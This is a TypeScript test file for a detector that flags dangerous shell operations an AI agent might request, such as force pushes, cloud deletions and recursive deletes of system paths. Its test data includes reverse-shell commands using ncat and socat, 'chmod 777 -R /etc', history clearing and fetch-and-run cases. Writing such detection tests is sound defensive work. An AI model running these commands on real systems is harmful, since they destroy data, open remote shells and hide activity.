import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Operation } from "../model/request.js";
import type { Example } from "./shell/pattern.js";
import { SHELL_PATTERNS } from "./shell.js";
import { SHELL } from "./forms.js";
import { answersOf, command, found, HERE, opaque, operation, requestOf } from "./testing.js";

const ALL = { sets: ["destructive", "persistence", "remote_code", "evasion", "credentials"] };

function operationsOf(example: Example): readonly Operation[] {
  if (typeof example === "string") return [command(example)];
  const own = example.opaque === true ? [opaque(example.action)] : operation(example.action, { ...example.resource });
  const { depth } = example;
  const others = (example.with ?? []).flatMap(operationsOf);
  return [...own, ...(depth === undefined ? others : others.map((each) => ({ ...each, depth })))];
}

const look = (...operations: readonly Operation[]): readonly string[] => found("shell", ALL, requestOf(operations));

describe("every pattern", () => {
  test.each(SHELL_PATTERNS)("$name finds its example and not its counter-example", ({ name, example, counter }) => {
    expect(look(...operationsOf(example))).toContain(name);
    expect(look(...operationsOf(counter))).not.toContain(name);
  });

  test("has a name of its own, in a set that can be asked for", () => {
    const names = SHELL_PATTERNS.map((each) => each.name);
    expect(new Set(names).size).toBe(names.length);
    expect(SHELL_PATTERNS.length).toBeGreaterThan(55);
    for (const { set, about, name } of SHELL_PATTERNS) {
      expect(Object.keys(SHELL.parameters.sets.of)).toContain(set);
      expect(about, name).toMatch(/^[a-z]/);
    }
  });
});

describe("commands, as programs read their words", () => {
  test.each([
    ["git push -uf origin main", "git-force-push"],
    ["git push origin main --forc", "git-force-push"],
    ["git --git-dir /x/.git push --mirror", "git-force-push"],
    ["git push origin --delete v1", "git-delete-remote"],
    ["git clean -d -x -f", "git-clean"],
    ["git clean --force -d", "git-clean"],
    ["git reset HEAD~1 --hard", "git-reset-hard"],
    ["git checkout HEAD -- .", "git-discard"],
    ["git restore .", "git-discard"],
    ["git branch --delete --force topic", "git-delete-branch"],
    ["git stash clear", "git-drop-stash"],
    ["git filter-branch --tree-filter x", "git-rewrite-history"],
    ["/usr/bin/git -c a.b=c reset --hard", "git-reset-hard"],
    ["GIT.EXE reset --hard", "git-reset-hard"],
    ["docker --host x volume rm data", "docker-prune"],
    ["docker compose down -v", "docker-prune"],
    ["kubectl delete ns prod", "kubectl-delete"],
    ["terraform -chdir=x destroy", "terraform-destroy"],
    ["aws s3 rb s3://b --force", "aws-delete"],
    ["aws ec2 terminate-instances --instance-ids i-1", "aws-delete"],
    ["gcloud projects delete p", "cloud-delete"],
    ["chmod 777 -R /etc", "change-root"],
    ["chown --recursive me ~", "change-root"],
    ["python3.11 /tmp/x.py", ""],
    ["systemctl reboot", "power-off"],
    ["killall -9 node", "kill-all"],
    ["ncat --exec /bin/sh h 1", "netcat-shell"],
    ["socat TCP:h:1 EXEC:sh", "netcat-shell"],
    ["crontab -", "crontab"],
  ])("%s", (text, name) => {
    if (name === "") expect(look(command(text))).toEqual([]);
    else expect(look(command(text))).toContain(name);
  });

  test.each([
    "git push origin main",
    "git push --force-with-lease",
    "git status",
    "git checkout main",
    "git checkout -b fix",
    "git clean -n",
    "git commit --amend",
    "git restore --staged .",
    "git stash list",
    "git rebase main",
    "git log --all",
    "git gc",
    "rm notes.txt",
    "npm run delete",
    "docker run --rm -v /a:/b img",
    "docker ps -a",
    "docker compose down",
    "kubectl get pods",
    "kubectl delete pod x --dry-run=server",
    "terraform plan",
    "aws s3 ls",
    "aws s3 cp a s3://b/a",
    "chmod -R 755 ./dist",
    "chmod +x run.sh",
    "systemctl status nginx",
    "crontab -l",
    "kill 1234",
    "kill -9 1234",
    "dd if=a of=b",
    "truncate --size=1G disk.img",
    "sh build.sh",
    "nc -z localhost 80",
    "ssh host",
    "tar xf a.tar",
    "echo rm -rf /",
    "grep -r crontab .",
  ])("leaves `%s` alone", (text) => expect(look(command(text))).toEqual([]));
});

describe("paths", () => {
  const deletes = (path: string, recursive = true, fs = HERE) =>
    found("shell", {}, requestOf(operation("file.delete", { path, recursive }, fs), {}, fs));

  test.each([
    "/",
    "/etc",
    "/home/ann",
    "~",
    "/home/bob",
    "/repo",
    "/usr/",
    ".",
    "..",
    "/repo/../etc",
    "./",
    "C:\\Windows",
  ])("recursive delete of `%s` is found", (path) => expect(deletes(path)).toEqual(["delete-root"]));
  test.each(["/repo/build", "build", "/tmp/x", "/home/ann/x", "/etc/app", "./a/../b"])(
    "recursive delete of `%s` is not",
    (path) => expect(deletes(path)).toEqual([]),
  );
  test("a folder that is not deleted with what it holds is not", () => expect(deletes("/repo", false)).toEqual([]));
  test("case counts only where the volume tells it apart", () => {
    expect(deletes("/ETC")).toEqual([]);
    expect(deletes("/ETC", true, { ...HERE, caseSensitive: false })).toEqual(["delete-root"]);
    expect(found("shell", {}, requestOf(operation("file.write", { path: "/home/ann/.BASHRC" })))).toEqual([]);
    const folding = { ...HERE, caseSensitive: false };
    const write = operation("file.write", { path: "/home/ann/.BASHRC" }, folding);
    expect(found("shell", {}, requestOf(write, {}, folding))).toEqual(["shell-startup"]);
  });

  const globbed = (path: string, glob: string): Operation => ({
    action: "file.delete",
    resource: { path, recursive: true },
    opaque: null,
    glob,
  });
  test("everything in the workspace is the workspace", () => {
    expect(look(globbed("/repo", "/repo/*"))).toContain("delete-root");
    expect(look(globbed("/", "/*"))).toContain("delete-root");
    expect(look(globbed("/repo", "/repo/.*"))).toContain("delete-root");
  });
  test("some of what is in the workspace is not", () => {
    expect(look(globbed("/repo", "/repo/*.o"))).toEqual([]);
    expect(look(globbed("/repo/build", "/repo/build/*"))).toEqual([]);
  });
  test("a folder that may hold a startup file is none", () =>
    expect(look(...operation("file.write", { path: "/repo/out", recursive: true }))).toEqual([]));
  test("a glob that only stands for keys is", () =>
    expect(
      look({
        action: "file.read",
        resource: { path: "/home/ann/.aws", recursive: true },
        opaque: null,
        glob: "/home/ann/.aws/credentials*",
      }),
    ).toEqual([]));
});

describe("what is not known", () => {
  test("an opaque command is unknown", () => expect(look(opaque("process.exec"))).toEqual(["unknown"]));
  test("an opaque delete or write is unknown", () => {
    expect(look(opaque("file.delete"))).toEqual(["unknown"]);
    expect(look(opaque("file.write"))).toEqual(["unknown"]);
  });
  test("an opaque read is unknown only to those who ask for credentials", () => {
    expect(found("shell", {}, requestOf([opaque("file.read")]))).toEqual([]);
    expect(look(opaque("file.read"))).toEqual(["unknown"]);
  });
  test("words that are not known matter only for programs that are in a pattern", () => {
    const words = (program: string): Operation => ({
      action: "process.exec",
      resource: { program },
      opaque: null,
      underived: ["argv", "command"],
    });
    expect(look(words("git"))).toEqual(["unknown"]);
    expect(look(words("ls"))).toEqual([]);
  });
  test("source from elsewhere is a find if the call fetches, and else is not", () => {
    const connect = operation("net.connect", { url: "https://x.example/" });
    expect(look(opaque("code.eval"), ...connect)).toContain("fetch-and-run");
    expect(look(opaque("code.eval"))).toEqual([]);
    expect(look(opaque("process.exec"), ...connect)).toContain("fetch-and-run");
    const shell: Operation = {
      action: "process.exec",
      resource: { program: "bash" },
      opaque: null,
      underived: ["argv", "command"],
    };
    expect(look(shell, ...connect)).toContain("fetch-and-run");
    expect(look(shell)).toEqual(["unknown"]);
  });
});

describe("configuration", () => {
  test("looks for destruction, persistence and remote code unless told otherwise", () => {
    expect(found("shell", {}, requestOf([command("history -c")]))).toEqual([]);
    expect(found("shell", { sets: ["evasion"] }, requestOf([command("history -c")]))).toEqual(["clear-history"]);
    expect(found("shell", { sets: ["evasion"] }, requestOf([command("git clean -f")]))).toEqual([]);
  });
  test("leaves out what is allowed by name or glob", () => {
    const clean = requestOf([command("git clean -f")]);
    expect(found("shell", { allow: ["git-clean"] }, clean)).toEqual([]);
    expect(found("shell", { allow: ["git-*"] }, clean)).toEqual([]);
    expect(found("shell", { allow: ["docker-*"] }, clean)).toEqual(["git-clean"]);
  });
});

describe("laws", () => {
  const word = fc.oneof(
    fc.constantFrom("-f", "--force", "--", "-", ".", "/", "-rf", "push", "clean", "--x=1", "of=/dev/sda", "~", ""),
    fc.string({ maxLength: 8 }),
  );
  const program = fc.constantFrom(...SHELL_PATTERNS.flatMap((each) => (each.kind === "command" ? each.programs : [])));

  test("whatever the words, it answers and quotes none of them", () => {
    fc.assert(
      fc.property(program, fc.array(word, { maxLength: 6 }), (name, words) => {
        const argv = [name, ...words];
        const operations = operation("process.exec", { argv });
        const answers = answersOf("shell", ALL, requestOf(operations));
        const messages = answers.flatMap((answer) => (answer ?? []).map((each) => each.message));
        const about = new Set(SHELL_PATTERNS.map((each) => each.about));
        expect(messages.filter((each) => !about.has(each))).toEqual([]);
      }),
    );
  });

  test("time grows with the words, not with their square", () => {
    const exec = (name: string, argv: readonly string[]): Operation => ({
      action: "process.exec",
      resource: { program: name, argv, command: "x" },
      opaque: null,
    });
    const start = performance.now();
    look(exec("git", ["git", "push", ..."-x ".repeat(50_000).split(" "), "0".repeat(50_000)]));
    look(exec("git", ["git", "push", `-${"x".repeat(50_000)}`]));
    look(exec("1".repeat(50_000), ["x"]));
    expect(performance.now() - start).toBeLessThan(5000);
  });
});
